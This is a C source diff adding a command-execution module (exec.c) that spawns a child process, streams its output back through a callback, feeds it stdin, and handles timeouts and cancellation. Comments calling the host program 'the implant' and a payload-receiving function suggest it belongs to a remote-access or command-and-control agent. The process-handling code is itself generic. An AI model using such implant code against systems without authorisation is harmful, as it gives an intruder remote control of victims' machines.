@@ -1,9 +1,358 @@
+/**
+ * @file exec.c
+ * @author Kevin McKenzie
+ * @brief Run a command and stream its output back, see exec.h.
+ *
+ * The child is started with posix_spawn, stdout and stderr share one pipe and stdin is fed from the task. One poll
+ * loop moves all of it and also watches a pidfd for the child's exit, the cancel fd, and the deadline as its timeout.
+ * The child leads its own process group so a kill also takes anything it started, which would otherwise keep the
+ * output pipe open.
+ */
+#define _GNU_SOURCE // NOLINT pipe2, environ
+
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <signal.h>
+#include <spawn.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
 
-#include "exec.h"
 #include "codes.h"
 #include "errors.h"
+#include "exec.h"
 #include "io_callback.h"
-#include "stdint.h"
+#include "mem.h"
+#include "utils.h"
+
+enum
+{
+    EXEC_READ_LEN = 64 * 1024,
+    EXEC_SIGNAL_STATUS = 128, /**< Shell convention, a child killed by signal N exits with 128 + N */
+    NSEC_PER_MSEC = 1000000,
+    MSEC_PER_SEC = 1000,
+};
+
+enum
+{
+    POLL_OUTPUT,
+    POLL_STDIN,
+    POLL_EXIT,
+    POLL_CANCEL,
+    POLL_COUNT,
+};
+
+typedef struct
+{
+    exec_process_t process; /**< Without a pidfd, the child's exit is seen as EOF on the output */
+    int in_fd;
+    const uint8_t *p_stdin;
+    size_t stdin_left;
+    uint64_t deadline_ms; /**< CLOCK_MONOTONIC, 0 for none */
+    bool b_exited;
+    bool b_out_eof;
+    bool b_out_empty; /**< The last read found the pipe empty */
+    int8_t stop_code; /**< SUCCESS until the child is killed */
+} child_t;
+
+static uint64_t now_ms(void)
+{
+    struct timespec now = {0};
+    (void)clock_gettime(CLOCK_MONOTONIC, &now);
+    return ((uint64_t)now.tv_sec * MSEC_PER_SEC) + ((uint64_t)now.tv_nsec / NSEC_PER_MSEC);
+}
+
+static void close_fd(int *p_fd)
+{
+    if ((-1 != *p_fd) && (-1 == close(*p_fd)))
+    {
+        DEBUG_PERROR("close");
+    }
+    *p_fd = -1;
+}
+
+static int open_pidfd(pid_t pid)
+{
+#ifdef SYS_pidfd_open
+    return (int)syscall(SYS_pidfd_open, pid, 0);
+#else
+    (void)pid;
+    return -1;
+#endif
+}
+
+void exec_kill(const exec_process_t *p_process)
+{
+#ifdef SYS_pidfd_send_signal
+    if (-1 != p_process->pidfd)
+    {
+        (void)syscall(SYS_pidfd_send_signal, p_process->pidfd, SIGKILL, NULL, 0);
+    }
+#endif
+    // The group id cannot be reused while its leader is unreaped, so this cannot hit a stranger either
+    if (-1 == kill(-p_process->pid, SIGKILL))
+    {
+        DEBUG_PERROR("kill");
+    }
+}
+
+int32_t exec_exit_status(int wait_status)
+{
+    return WIFSIGNALED(wait_status) ? (EXEC_SIGNAL_STATUS + WTERMSIG(wait_status)) : WEXITSTATUS(wait_status);
+}
+
+static void kill_child(child_t *p_child, int8_t stop_code)
+{
+    if (SUCCESS == p_child->stop_code)
+    {
+        p_child->stop_code = stop_code;
+        exec_kill(&p_child->process);
+    }
+}
+
+static int spawn_with_pipes(exec_t *p_exec, uint16_t flags, int out_pipe[2], int in_pipe[2], pid_t *p_pid)
+{
+    posix_spawn_file_actions_t actions;
+    posix_spawnattr_t attr;
+    sigset_t default_signals;
+    (void)posix_spawn_file_actions_init(&actions);
+    (void)posix_spawnattr_init(&attr);
+
+    if (-1 != in_pipe[0])
+    {
+        (void)posix_spawn_file_actions_adddup2(&actions, in_pipe[0], STDIN_FILENO);
+    }
+    else
+    {
+        (void)posix_spawn_file_actions_addopen(&actions, STDIN_FILENO, "/dev/null", O_RDONLY, 0);
+    }
+    (void)posix_spawn_file_actions_adddup2(&actions, out_pipe[1], STDOUT_FILENO);
+    (void)posix_spawn_file_actions_adddup2(&actions, out_pipe[1], STDERR_FILENO);
+
+    // The implant ignores SIGPIPE, the child should not inherit that
+    (void)sigemptyset(&default_signals);
+    (void)sigaddset(&default_signals, SIGPIPE);
+    (void)posix_spawnattr_setsigdefault(&attr, &default_signals);
+    (void)posix_spawnattr_setpgroup(&attr, 0);
+    (void)posix_spawnattr_setflags(&attr, POSIX_SPAWN_SETSIGDEF | POSIX_SPAWN_SETPGROUP);
+
+    char *default_argv[] = {p_exec->path, NULL};
+    char **argv = (NULL != p_exec->argv[0]) ? p_exec->argv : default_argv;
+    char **envp = ((uint16_t)ENVP & flags) ? p_exec->envp : environ;
+
+    int ret = posix_spawn(p_pid, p_exec->path, &actions, &attr, argv, envp);
+
+    (void)posix_spawnattr_destroy(&attr);
+    (void)posix_spawn_file_actions_destroy(&actions);
+
+    errno = ret;
+    return (0 == ret) ? EMBER_SUCCESS : -EMBER_ERROR;
+}
+
+static int spawn_child(exec_t *p_exec, uint16_t flags, child_t *p_child)
+{
+    int out_pipe[2] = {-1, -1};
+    int in_pipe[2] = {-1, -1};
+    int err = EMBER_SUCCESS;
+
+    if ((-1 == pipe2(out_pipe, O_CLOEXEC)) || (((uint16_t)STDIN & flags) && (-1 == pipe2(in_pipe, O_CLOEXEC))))
+    {
+        DEBUG_PERROR("pipe2");
+        err = -EMBER_ERROR;
+    }
+
+    if ((EMBER_SUCCESS == err) &&
+        (EMBER_SUCCESS != spawn_with_pipes(p_exec, flags, out_pipe, in_pipe, &p_child->process.pid)))
+    {
+        DEBUG_PERROR("posix_spawn");
+        err = -EMBER_ERROR;
+    }
+
+    // The parent keeps the read end of the output and the write end of stdin, non-blocking so the loop never stalls
+    close_fd(&out_pipe[1]);
+    close_fd(&in_pipe[0]);
+    p_child->process.out_fd = out_pipe[0];
+    p_child->in_fd = in_pipe[1];
+    (void)fcntl(p_child->process.out_fd, F_SETFL, O_NONBLOCK);
+    if (-1 != p_child->in_fd)
+    {
+        (void)fcntl(p_child->in_fd, F_SETFL, O_NONBLOCK);
+    }
+
+    if (EMBER_SUCCESS == err)
+    {
+        p_child->process.pidfd = open_pidfd(p_child->process.pid);
+    }
+
+    return err;
+}
+
+static int read_output(io_callback_t *p_sender, child_t *p_child, uint8_t *buf)
+{
+    ssize_t num_read = read(p_child->process.out_fd, buf, EXEC_READ_LEN);
+    p_child->b_out_empty = (-1 == num_read) && (EAGAIN == errno);
+    if (0 < num_read)
+    {
+        return p_sender->func(p_sender->data, buf, num_read);
+    }
+
+    if (0 == num_read)
+    {
+        p_child->b_out_eof = true;
+    }
+    else if ((EAGAIN != errno) && (EINTR != errno))
+    {
+        DEBUG_PERROR("read");
+        p_child->b_out_eof = true;
+    }
+    return EMBER_SUCCESS;
+}
+
+static void write_stdin(child_t *p_child)
+{
+    ssize_t written = write(p_child->in_fd, p_child->p_stdin, MIN(p_child->stdin_left, (size_t)EXEC_READ_LEN));
+    if (0 < written)
+    {
+        p_child->p_stdin += written;
+        p_child->stdin_left -= (size_t)written;
+    }
+
+    // EPIPE when the child closed its stdin, it will not read the rest
+    if ((0 == p_child->stdin_left) || ((-1 == written) && (EAGAIN != errno) && (EINTR != errno)))
+    {
+        close_fd(&p_child->in_fd);
+    }
+}
+
+static int poll_timeout(const child_t *p_child)
+{
+    if ((0 == p_child->deadline_ms) || (SUCCESS != p_child->stop_code))
+    {
+        return -1;
+    }
+
+    uint64_t now = now_ms();
+    return (now >= p_child->deadline_ms) ? 0 : (int)MIN(p_child->deadline_ms - now, (uint64_t)INT32_MAX);
+}
+
+static void check_cancel(exec_cancel_t *p_cancel, child_t *p_child)
+{
+    exec_cancel_state_t state = p_cancel->func(p_cancel->fd, p_cancel->data);
+    if (EXEC_CANCEL_REQUESTED == state)
+    {
+        kill_child(p_child, -CANCELLED);
+    }
+
+    // Once the cancel is consumed, or another task is queued behind this one, the fd is no longer ours to watch
+    if (EXEC_CANCEL_PENDING != state)
+    {
+        p_cancel->fd = -1;
+    }
+}
+
+static int handle_events(io_callback_t *p_sender, exec_cancel_t *p_cancel, child_t *p_child, struct pollfd *p_fds,
+                         uint8_t *buf)
+{
+    int err = EMBER_SUCCESS;
+
+    if (p_fds[POLL_OUTPUT].revents)
+    {
+        err = read_output(p_sender, p_child, buf);
+    }
+    if (p_fds[POLL_STDIN].revents)
+    {
+        write_stdin(p_child);
+    }
+    if (p_fds[POLL_EXIT].revents)
+    {
+        p_child->b_exited = true;
+    }
+    if (p_fds[POLL_CANCEL].revents)
+    {
+        check_cancel(p_cancel, p_child);
+    }
+    if ((0 != p_child->deadline_ms) && (now_ms() >= p_child->deadline_ms))
+    {
+        kill_child(p_child, -TIMED_OUT);
+    }
+
+    return err;
+}
+
+static int supervise_child(io_callback_t *p_sender, exec_cancel_t *p_cancel, child_t *p_child, uint8_t *buf)
+{
+    int err = EMBER_SUCCESS;
+
+    // With a pidfd the loop runs until the child exits, whether or not something it started holds the pipe open.
+    // Without one, EOF on the output is the best sign of the exit there is.
+    while ((EMBER_SUCCESS == err) && !p_child->b_exited &&
+           !(p_child->b_out_eof && (-1 == p_child->process.pidfd)))
+    {
+        struct pollfd fds[POLL_COUNT] = {
+            [POLL_OUTPUT] = {.fd = p_child->b_out_eof ? -1 : p_child->process.out_fd, .events = POLLIN},
+            [POLL_STDIN] = {.fd = p_child->in_fd, .events = POLLOUT},
+            [POLL_EXIT] = {.fd = p_child->process.pidfd, .events = POLLIN},
+            [POLL_CANCEL] = {.fd = (NULL != p_cancel->func) ? p_cancel->fd : -1, .events = POLLIN},
+        };
+
+        int ready = poll(fds, POLL_COUNT, poll_timeout(p_child));
+        if ((-1 == ready) && (EINTR != errno))
+        {
+            DEBUG_PERROR("poll");
+            err = -EMBER_ERROR;
+        }
+        else if (-1 != ready)
+        {
+            err = handle_events(p_sender, p_cancel, p_child, fds, buf);
+        }
+    }
+
+    // Flush what the child wrote before it exited
+    while ((EMBER_SUCCESS == err) && p_child->b_exited && !p_child->b_out_eof && !p_child->b_out_empty)
+    {
+        err = read_output(p_sender, p_child, buf);
+    }
+
+    return err;
+}
+
+static void reap_child(child_t *p_child, exec_t *p_exec)
+{
+    int status = 0;
+    pid_t ret = -1;
+    do
+    {
+        ret = waitpid(p_child->process.pid, &status, 0);
+    } while ((-1 == ret) && (EINTR == errno));
+
+    if (-1 == ret)
+    {
+        DEBUG_PERROR("waitpid");
+        return;
+    }
+
+    p_exec->b_reaped = true;
+    p_exec->exit_status = exec_exit_status(status);
+}
+
+int exec_spawn(exec_t *p_exec, uint16_t flags, exec_process_t *p_process)
+{
+    child_t child = {.process = {.pid = -1, .pidfd = -1, .out_fd = -1}, .in_fd = -1, .stop_code = SUCCESS};
+
+    int err = spawn_child(p_exec, flags & (uint16_t)~STDIN, &child);
+    if (EMBER_SUCCESS != err)
+    {
+        close_fd(&child.process.out_fd);
+    }
+
+    *p_process = child.process;
+    return err;
+}
 
 int exec_receive_payload(io_callback_t *p_receiver, exec_t *p_exec, uint64_t file_len, int8_t *p_res)
 {
@@ -18,11 +367,46 @@ int exec_receive_payload(io_callback_t *p_receiver, exec_t *p_exec, uint64_t fil
 
 int exec_run(io_callback_t *p_sender, uint16_t flags, exec_t *p_exec, int8_t *p_res)
 {
-    (void)p_sender;
-    (void)flags;
-    (void)p_exec;
-    (void)p_res;
+    child_t child = {.process = {.pid = -1, .pidfd = -1, .out_fd = -1}, .in_fd = -1, .stop_code = SUCCESS};
+    child.p_stdin = p_exec->stdin_data;
+    child.stdin_left = p_exec->stdin_len;
+
+    if (((uint16_t)TIMEOUT & flags) && (0 != p_exec->timeout_ms))
+    {
+        child.deadline_ms = now_ms() + p_exec->timeout_ms;
+    }
 
+    uint8_t *buf = (uint8_t *)mem_alloc_fixed(EXEC_READ_LEN);
+    if (NULL == buf)
+    {
+        DEBUG_PERROR("mem_alloc_fixed");
+        return -EMBER_ERROR;
+    }
+
+    int err = EMBER_SUCCESS;
     *p_res = SUCCESS;
-    return EMBER_SUCCESS;
+    if (EMBER_SUCCESS != spawn_child(p_exec, flags, &child))
+    {
+        *p_res = -FILE_ERROR;
+    }
+    else
+    {
+        err = supervise_child(p_sender, &p_exec->cancel, &child, buf);
+        if (EMBER_SUCCESS != err)
+        {
+            // Nobody is left to take the output
+            kill_child(&child, -CANCELLED);
+        }
+        reap_child(&child, p_exec);
+        *p_res = child.stop_code;
+    }
+
+    close_fd(&child.process.out_fd);
+    close_fd(&child.in_fd);
+    close_fd(&child.process.pidfd);
+    mem_free(buf);
+
+    return err;
 }
+
+/*** END OF FILE ***/